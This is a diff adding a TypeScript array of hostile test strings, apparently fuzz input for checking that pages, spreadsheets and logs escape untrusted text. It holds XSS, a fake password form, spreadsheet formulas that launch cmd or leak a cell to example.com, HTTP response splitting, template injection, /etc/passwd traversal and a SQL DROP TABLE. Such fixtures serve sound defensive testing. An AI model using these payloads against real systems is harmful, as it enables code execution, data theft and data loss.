@@ -1,0 +1,23 @@
+/** Texts that break pages, tables, spreadsheets and logs which trust them. */
+export const hostileTexts: string[] = [
+  '<script>document.title="owned"</script><img src=x onerror="document.title=\'owned\'">',
+  '</td></tr></table><h1>Signed out</h1><form action="https://example.com"><input name="password">',
+  'مرحبا \u202Egnp.tnacifingis\u202C نهاية الرسالة (403)',
+  'שלום – the file עברית.tif was refused',
+  '👩🏽‍🚀🏴󠁧󠁢󠁳󠁣󠁴󠁿👨‍👩‍👧‍👦 e\u0301\u0323\u0302 Z̷̢̛͔a̸l̴g̶o̷ \u{1F4A5}',
+  'x'.repeat(10_000),
+  '=HYPERLINK("https://example.com/?leak="&A1,"Click")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b\r\n\r\n',
+  '{{constructor.constructor("document.title=1")()}} ${7*7} <%= 7*7 %>',
+  '%00%0a%0d../../../../etc/passwd\u0000end',
+  '   leading, trailing and   inner   spaces   ',
+  'line one\nline two\n\n\nline five\twith a tab',
+  "Robert'); DROP TABLE target;--",
+  'null',
+  'undefined',
+  '﻿byte order mark and \u200Bzero\u200Bwidth\u200Bspaces, \uD800 a lone surrogate',
+]
